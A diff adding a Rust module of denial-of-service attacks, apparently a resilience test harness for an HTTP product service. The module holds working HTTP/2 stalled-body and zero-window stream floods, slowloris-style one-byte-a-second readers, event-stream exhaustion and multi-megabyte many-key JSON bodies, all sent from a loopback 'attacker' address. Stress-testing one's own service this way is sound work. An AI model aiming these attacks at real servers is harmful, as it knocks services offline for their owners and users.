@@ -1,0 +1,197 @@
+//! The attacks. Each goes on, with new connections for those that are closed, until it is dropped.
+
+use std::{net::SocketAddr, time::Duration};
+
+use bytes::Bytes;
+use h2::client::SendRequest;
+use http::Request;
+use tokio::{
+    io::{AsyncReadExt as _, AsyncWriteExt as _},
+    net::{TcpSocket, TcpStream},
+    task::JoinSet,
+    time::sleep,
+};
+
+/// Where attacks go, and with how many clients at once.
+#[derive(Clone, Debug)]
+pub struct Target {
+    pub address: SocketAddr,
+    pub image: String,
+    pub clients: usize,
+}
+
+/// An attack; it ends when it is dropped.
+pub type Attack = JoinSet<()>;
+
+pub type Begin = fn(&Target) -> Attack;
+
+pub const ATTACKS: &[(&str, Begin)] = &[
+    ("open_bodies", open_bodies),
+    ("shut_windows", shut_windows),
+    ("slow_readers", slow_readers),
+    ("event_streams", event_streams),
+    ("many_names", many_names),
+];
+
+/// Connections of HTTP/2 of one attack, and streams of each.
+const CONNECTIONS: usize = 8;
+const STREAMS: usize = 64;
+/// The attackers' address, which is not that of good clients.
+const ATTACKER: [u8; 4] = [127, 66, 0, 1];
+/// Nobody gains by trying again at once.
+const PAUSE: Duration = Duration::from_millis(50);
+
+/// Requests over HTTP/2 whose bodies do not come: as many as may be worked on at a time.
+fn open_bodies(target: &Target) -> Attack {
+    multiplexed(target, 65_535, |_, address| {
+        let head = Request::post(format!("http://{address}/products")).header("content-type", "application/json");
+        (head.header("content-length", "100").body(()).expect("a request"), false)
+    })
+}
+
+/// Large answers over HTTP/2 of which nothing is taken.
+fn shut_windows(target: &Target) -> Attack {
+    let image = target.image.clone();
+    multiplexed(target, 0, move |number, address| {
+        let path = if number % 2 == 0 { "/products?limit=100" } else { image.as_str() };
+        (Request::get(format!("http://{address}{path}")).body(()).expect("a request"), true)
+    })
+}
+
+/// Connections that take a byte a second of a large answer.
+fn slow_readers(target: &Target) -> Attack {
+    let image = target.image.clone();
+    each_client(target, move |number| {
+        let path = if number % 2 == 0 { "/products?limit=100".to_owned() } else { image.clone() };
+        format!("GET {path} HTTP/1.1\r\nHost: pm\r\n\r\n").into_bytes()
+    })
+}
+
+/// As many streams of events as one client can get.
+fn event_streams(target: &Target) -> Attack {
+    each_client(target, |_| b"GET /events HTTP/1.1\r\nHost: pm\r\n\r\n".to_vec())
+}
+
+/// Bodies as large as may be, of names alone.
+fn many_names(target: &Target) -> Attack {
+    let mut attack = JoinSet::new();
+    for path in ["/products", "/products:batch", "/products", "/products:batch"] {
+        let size = if path == "/products" { 1 << 20 } else { 8 << 20 };
+        let mut body = String::from("{");
+        for number in 0.. {
+            let name = format!("\"k{number}\":1,");
+            if body.len() + name.len() + 8 > size {
+                break;
+            }
+            body.push_str(&name);
+        }
+        body.push_str("\"k\":1}");
+        let (address, body) = (target.address, body.into_bytes());
+        attack.spawn(async move {
+            let head = format!(
+                "POST {path} HTTP/1.1\r\nHost: pm\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
+                body.len()
+            );
+            loop {
+                let _ = send_and_read(address, head.as_bytes(), &body).await;
+                sleep(PAUSE).await;
+            }
+        });
+    }
+    attack
+}
+
+async fn connect(address: SocketAddr, receive_buffer: Option<u32>) -> std::io::Result<TcpStream> {
+    let socket = TcpSocket::new_v4()?;
+    socket.bind((ATTACKER, 0).into())?;
+    if let Some(bytes) = receive_buffer {
+        socket.set_recv_buffer_size(bytes)?;
+    }
+    socket.connect(address).await
+}
+
+async fn send_and_read(address: SocketAddr, head: &[u8], body: &[u8]) -> std::io::Result<()> {
+    let mut stream = connect(address, None).await?;
+    stream.write_all(head).await?;
+    stream.write_all(body).await?;
+    let mut answer = [0; 4_096];
+    stream.read(&mut answer).await.map(|_| ())
+}
+
+/// Streams of HTTP/2 with windows of this size, each of which makes one request after the other.
+fn multiplexed(
+    target: &Target,
+    window: u32,
+    request: impl Fn(usize, SocketAddr) -> (Request<()>, bool) + Clone + Send + Sync + 'static,
+) -> Attack {
+    let mut attack = JoinSet::new();
+    for _ in 0..CONNECTIONS {
+        let (address, request) = (target.address, request.clone());
+        attack.spawn(async move {
+            loop {
+                let _ = one_connection(address, window, &request).await;
+                sleep(PAUSE).await;
+            }
+        });
+    }
+    attack
+}
+
+async fn one_connection(
+    address: SocketAddr,
+    window: u32,
+    request: &(impl Fn(usize, SocketAddr) -> (Request<()>, bool) + Clone + Send + Sync + 'static),
+) -> anyhow::Result<()> {
+    let stream = connect(address, None).await?;
+    let (send, connection) =
+        h2::client::Builder::new().initial_window_size(window).handshake::<_, Bytes>(stream).await?;
+    let mut tasks = JoinSet::new();
+    for number in 0..STREAMS {
+        let (send, request) = (send.clone(), request.clone());
+        tasks.spawn(async move {
+            loop {
+                let (request, ends) = request(number, address);
+                let _ = one_stream(send.clone(), request, ends).await;
+                sleep(PAUSE).await;
+            }
+        });
+    }
+    // With the connection end its streams.
+    Ok(connection.await?)
+}
+
+/// Waits for the answer, and takes nothing of its body.
+async fn one_stream(send: SendRequest<Bytes>, request: Request<()>, ends: bool) -> Result<(), h2::Error> {
+    let mut send = send.ready().await?;
+    let (answer, _body) = send.send_request(request, ends)?;
+    let mut answer = answer.await?;
+    while let Some(piece) = answer.body_mut().data().await {
+        piece?;
+    }
+    Ok(())
+}
+
+/// One connection of HTTP/1.1 for each client, over which it reads a byte a second.
+fn each_client(target: &Target, request: impl Fn(usize) -> Vec<u8>) -> Attack {
+    let mut attack = JoinSet::new();
+    for number in 0..target.clients {
+        let (address, request) = (target.address, request(number));
+        attack.spawn(async move {
+            loop {
+                let _ = read_slowly(address, &request).await;
+                sleep(PAUSE * 10).await;
+            }
+        });
+    }
+    attack
+}
+
+async fn read_slowly(address: SocketAddr, request: &[u8]) -> std::io::Result<()> {
+    let mut stream = connect(address, Some(2_048)).await?;
+    stream.write_all(request).await?;
+    let mut byte = [0];
+    while stream.read(&mut byte).await? > 0 {
+        sleep(Duration::from_secs(1)).await;
+    }
+    Ok(())
+}
